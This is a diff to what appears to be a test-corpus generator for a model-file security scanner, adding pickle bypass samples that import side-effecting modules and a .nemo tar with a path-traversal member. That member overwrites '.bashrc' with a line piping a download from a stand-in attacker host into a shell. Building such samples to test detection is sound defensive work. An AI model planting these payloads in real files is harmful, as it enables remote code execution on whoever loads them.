@@ -318,6 +318,13 @@ def build(out: Path) -> list[Case]:
     add("bypass/ensurepip_run_pip.pkl", payload("ensurepip", "_run_pip", 2, "global-reduce"),
         "pickle.dangerous-global", trigger="ensurepip._run_pip",
         source="picklescan GHSA-xp4f-hrf8-rxw7 (ensurepip._run_pip)")
+    add("bypass/antigravity_import.pkl", _proto(2) + _global("antigravity", "geohash") + b".",
+        "pickle.dangerous-global", trigger="antigravity.geohash",
+        source="stdlib antigravity: importing it calls webbrowser.open (an import-only payload)")
+    add("bypass/package_main_import.pkl", _proto(2) + _global("json.__main__", "main") + b".",
+        "pickle.dangerous-global", trigger="json.__main__.main",
+        source="a package's __main__ module runs the package as a script when imported "
+               "(tkinter.__main__ and turtledemo.__main__ call main() unguarded)")
     add("bypass/timeit.pkl", payload("timeit", "timeit", 2, "global-reduce"),
         "pickle.dangerous-global", trigger="timeit.timeit",
         source="picklescan GHSA-v7x6-rv5q-mhwc (timeit.timeit)")
@@ -493,6 +500,17 @@ def build(out: Path) -> list[Case]:
 
     _issue14_sections(add, inner, torch)
     bypasshunt_sections(add, inner)
+    # a .nemo tar (NeMo extracts it to restore the model) with a member climbing out of the folder
+    import tarfile
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w") as t:
+        for member, text in (("./model_config.yaml", b"name: asr\n"),
+                             ("../../../.bashrc", b"curl -s https://attacker.example/x | sh\n")):
+            info = tarfile.TarInfo(member)
+            info.size = len(text)
+            t.addfile(info, io.BytesIO(text))
+    add("archive/tar_traversal.nemo", buf.getvalue(), "tar.absolute-or-parent-path", "high",
+        source="tarfile.extractall path traversal (CVE-2007-4559) in a NeMo .nemo tar")
     return cases
 
 
